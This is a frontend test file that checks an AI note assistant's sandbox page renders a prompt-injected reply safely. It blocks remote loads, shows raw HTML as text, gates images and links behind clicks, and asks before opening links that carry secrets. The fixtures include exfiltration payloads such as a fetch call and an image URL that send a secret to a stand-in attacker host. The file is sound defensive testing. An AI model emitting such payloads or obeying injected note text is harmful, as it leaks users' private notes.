// @vitest-environment happy-dom
/**
 * A reply is untrusted content on the sandbox page too (issue 25): the page's renderer, through the
 * pane, shows the prompt-injected reply with nothing that loads from another host, its raw HTML
 * as text, a placeholder for the remote image that loads on a click, and links that open only on a
 * click, asking first when they carry text from a note read in the turn. (Failed before: the page
 * kept every http(s) link live, with its href.)
 */
import { act, cleanup, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { RedlinePane } from "../../../src/ui/components/RedlinePane";
import { createPageHost } from "../../../src/sandbox/page/page-host";
import { EventScript } from "../../ui/support/events";
import { FakeThreadService } from "../../ui/support/fake-service";
import { fetchedUrls } from "../../support/fetched-urls";
import {
	ATTACKER,
	POISONED_NOTE,
	POISONED_PATH,
	POISONED_REPLY,
	SECRET,
	SECRET_NOTE,
	SECRET_PATH,
} from "../../support/injection";

afterEach(cleanup);

function readResult(path: string, text: string) {
	return { status: "success" as const, message: `${path} (${text.split("\n").length} lines):\n${text}`, path };
}

function injectedThread(reply = POISONED_REPLY): EventScript {
	const script = new EventScript().user("m1", "Summarise my meeting notes").assistant("m2", "");
	script.add({ type: "assistant_message_completed", messageId: "m2", finishReason: "tool_calls" });
	script
		.propose("m2", "c1", "readNote", { path: POISONED_PATH })
		.decide("c1", "approved")
		.run("c1", readResult(POISONED_PATH, POISONED_NOTE));
	script
		.propose("m2", "c2", "readNote", { path: SECRET_PATH })
		.decide("c2", "approved")
		.run("c2", readResult(SECRET_PATH, SECRET_NOTE));
	return script.assistant("m3", reply).status("idle");
}

async function renderOnPage(script: EventScript) {
	const service = new FakeThreadService();
	service.addThread(script.threadId, script.events);
	const openedNotes: string[] = [];
	const host = createPageHost(
		service,
		{
			activeNote: () => null,
			openNote: (path) => openedNotes.push(path),
			notePaths: () => ["Daily.md"],
			showSettingsHelp: () => undefined,
		},
		document,
	);
	render(<RedlinePane host={host} />);
	await screen.findByRole("log");
	const article = await waitFor(() => {
		const found = screen.getAllByRole("article", { name: "Redline" }).find((a) => a.textContent?.includes("summary"));
		if (!found) throw new Error("the reply is not rendered yet");
		return found;
	});
	return { reply: article.querySelector<HTMLElement>(".redline-markdown")!, openedNotes };
}

let opened: string[];
beforeEach(() => {
	opened = [];
	vi.spyOn(window, "open").mockImplementation((url) => {
		opened.push(String(url));
		return null;
	});
});
afterEach(() => {
	vi.restoreAllMocks();
});

describe("a prompt-injected reply on the sandbox page", () => {
	it("loads nothing from another host and shows raw HTML as text and code as code", async () => {
		const { reply } = await renderOnPage(injectedThread());
		expect(fetchedUrls(reply)).toEqual([]);
		expect(
			reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script, [href]"),
		).toHaveLength(0);
		expect(reply.textContent).toContain(`<iframe src="https://${ATTACKER}/frame"></iframe>`);
		expect(reply.textContent).toContain(`<div style="background:url(https://${ATTACKER}/bg.png)">Styled</div>`);
		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(
			`fetch("https://${ATTACKER}/?d="`,
		);
		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(
			`![](https://${ATTACKER}/in-code.png)`,
		);
	});

	it("shows the remote image as a placeholder naming its host, which loads only on a click", async () => {
		const { reply } = await renderOnPage(injectedThread());
		const placeholder = within(reply).getByRole("group", { name: "Image from attacker.example" });
		expect(placeholder.textContent).toMatch(/^Image from attacker\.example.*· Load$/);
		expect(reply.querySelector("img")).toBeNull();
		await userEvent.click(within(placeholder).getByRole("button", { name: "Load image from attacker.example" }));
		expect(reply.querySelector("img")?.getAttribute("src")).toBe(`http://${ATTACKER}/pixel.png?d=${SECRET}`);
	});

	it("opens a link only on a click and asks first, in the pane, when it carries text from a note read this turn", async () => {
		const { reply } = await renderOnPage(injectedThread());
		const guide = within(reply).getByRole("link", { name: "the guide" });
		expect(guide.hasAttribute("href")).toBe(false);
		expect(guide.title).toBe("https://docs.example/guide");
		await userEvent.click(guide);
		expect(opened).toEqual(["https://docs.example/guide"]);

		await userEvent.click(within(reply).getByRole("link", { name: "the source" }));
		const ask = within(reply).getByRole("group", { name: "Open this link?" });
		expect(ask.textContent).toMatch(new RegExp(`^This link contains text from .*${SECRET_PATH}`));
		expect(opened).toEqual(["https://docs.example/guide"]);
		await userEvent.click(within(ask).getByRole("button", { name: "Open link" }));
		expect(opened).toEqual(["https://docs.example/guide", `https://${ATTACKER}/?d=${SECRET}`]);
	});

	it("leaves obsidian:, file:, javascript: and data: links dead, and opens internal links only inside the vault", async () => {
		const { reply, openedNotes } = await renderOnPage(
			injectedThread(`${POISONED_REPLY}\n\nSee [[Daily]] and [up](../../outside.md).`),
		);
		for (const name of ["the vault", "a file", "a script", "data", "up"]) {
			const dead = [...reply.querySelectorAll<HTMLElement>(".redline-dead-link")].find((el) => el.textContent === name);
			expect(dead, name).toBeDefined();
			await act(async () => dead!.click());
		}
		expect(opened).toEqual([]);
		await userEvent.click(within(reply).getByRole("link", { name: "Daily" }));
		expect(openedNotes).toEqual(["Daily.md"]);
	});
});
